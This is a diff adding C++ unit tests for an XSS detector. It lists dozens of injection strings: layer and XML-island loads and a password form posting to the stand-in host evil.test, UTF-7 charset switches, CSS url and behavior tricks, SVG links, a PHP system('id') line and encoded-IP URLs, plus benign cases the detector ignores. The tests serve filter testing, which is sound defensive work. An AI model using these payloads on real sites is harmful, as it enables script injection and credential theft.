@@ -139,5 +139,95 @@ TEST(XssTest, TaglessScansStillFire) {
   EXPECT_TRUE(Detects(XssDetector(), "top['al'+'ert'](1)", &m));
 }
 
+// One or more examples per markup grammar beyond <script> and on*= handlers.
+TEST(XssTest, DetectsMarkupFamilies) {
+  const AttackCase kCases[] = {
+      // Netscape layers and IE XML data islands with data binding.
+      {"<ilayer src=\"//evil.test/l.html\"></ilayer>", "xss.dangerous_tag"},
+      {"<xml id=d src=\"//evil.test/d.xml\"></xml>", "xss.dangerous_tag"},
+      {"<span datasrc=#d datafld=f dataformatas=html></span>", "xss.dangerous_tag"},
+      // External style sheets and UTF-7 switches.
+      {"<link rel=\"stylesheet\" href=\"//evil.test/s.css\">", "xss.dangerous_tag"},
+      {"<meta http-equiv=\"link\" content=\"<//evil.test/s.css>; rel=stylesheet\">",
+       "xss.dangerous_tag"},
+      {"<meta charset=\"utf-7\">", "xss.dangerous_tag"},
+      // Style attributes and style sheets that load, escape or break out.
+      {"<p style=\"background:url(//evil.test/i.svg)\">", "xss.css_expression"},
+      {"<p style=\"\\62 ackground:red\">", "xss.css_expression"},
+      {"<p style=\"width:1px}p{color:red\">", "xss.css_expression"},
+      {"<p style=\"behaviour: url(h.htc)\">", "xss.css_expression"},
+      {"<style>p{background:url(//evil.test/x)}</style>", "xss.css_expression"},
+      // SVG/MathML links, animations and namespaces.
+      {"<math><a xlink:href=\"//evil.test/\">go", "xss.js_url"},
+      {"<svg><set attributeName=\"href\" to=\"//evil.test/\"/>", "xss.js_url"},
+      {"<doc xmlns:h=\"http://www.w3.org/1999/xhtml\">", "xss.dangerous_tag"},
+      {"<svg:rect width=9>", "xss.dangerous_tag"},
+      {"<e ev:event=\"load\" ev:handler=\"h.evt#x\"/>", "xss.event_handler"},
+      // Processing instructions, conditional comments, declarations.
+      {"<?xml-stylesheet type=\"text/xsl\" href=\"#s\"?>", "xss.dangerous_tag"},
+      {"<?import namespace=\"t\" implementation=\"#d\"?>", "xss.dangerous_tag"},
+      {"<!--[if IE]><b>x</b><![endif]-->", "xss.dangerous_tag"},
+      {"<!DOCTYPE html><p>", "xss.dangerous_tag"},
+      {"<? system('id'); ?>", "xss.dangerous_tag"},
+      {"<b>hi</b><!-- rest of page", "xss.dangerous_tag"},
+      // Foreign content and page takeover, open or left dangling.
+      {"x<svg", "xss.dangerous_tag"},
+      {"<form action=//evil.test/><input name=pw>", "xss.dangerous_tag"},
+      {"</textarea><b>x</b>", "xss.js_breakout"},
+      {"--><p>{}</p>", "xss.js_breakout"},
+      // URLs: unusual schemes, spaced schemes, encoded hosts.
+      {"<img src=\"mocha:go(1)\">", "xss.js_url"},
+      {"mhtml:http://evil.test/a.mht!x.html", "xss.js_url"},
+      {"<img src=java script:go(1)>", "xss.js_url"},
+      {"<a href=\"http://3232235777/\">x</a>", "xss.js_url"},
+      {"<a href=\"http://0xc0.0xa8.0x1.0x1/\">x</a>", "xss.js_url"},
+      {"<a href=\"http://0300.0250.01.01/\">x</a>", "xss.js_url"},
+      // UTF-7 whose '+' signs were decoded to spaces; computed global calls.
+      {"+ADw-b+AD4-hi", "xss.script_tag"},
+      {"x ADw-b AD4-hi", "xss.script_tag"},
+      {"self[12345..toString(36)](1)", "xss.js_breakout"},
+  };
+  for (const AttackCase& c : kCases) {
+    Match m;
+    EXPECT_TRUE(Detects(XssDetector(), c.value, &m)) << c.value;
+    EXPECT_EQ(m.rule_id, c.rule) << c.value;
+  }
+}
+
+// A lone '<', in any spelling, is text: nothing can execute without a tag
+// name, a handler or a script URL after it.
+TEST(XssTest, IgnoresALoneAngleBracketInAnySpelling) {
+  const std::string_view kCases[] = {"<", "&lt;", "&#x3c;", "\\u003c", "&lt;3", "a &lt; b"};
+  for (std::string_view v : kCases) {
+    Match m;
+    EXPECT_FALSE(Detects(XssDetector(), v, &m)) << v;
+  }
+}
+
+// Benign counterparts of the families above.
+TEST(XssTest, IgnoresBenignMarkupNeighbours) {
+  const std::string_view kCases[] = {
+      "<a href=\"http://192.168.1.10/\">router</a>",
+      "<a href=\"http://example.com/0x1f\">x</a>",
+      "<span style=\"color:red;font-weight:bold\">hi</span>",
+      "<p class=\"note\">see <i>this</i></p>",
+      "<img src=\"/img/logo.png\" alt=\"logo\">",
+      "<b>done</b><!-- note -->",
+      "<link>",
+      "read the xml file",
+      "version <?> of the spec",
+      "the svg format",
+      "My math homework",
+      "<SPAN CLASS=\"BADGE\">NEW</SPAN>",
+      "A+B = C+D",
+      "top[0]",
+      "utf-7 is a legacy encoding",
+  };
+  for (std::string_view v : kCases) {
+    Match m;
+    EXPECT_FALSE(Detects(XssDetector(), v, &m)) << v << " -> " << m.rule_id;
+  }
+}
+
 }  // namespace
 }  // namespace fnguard::detect
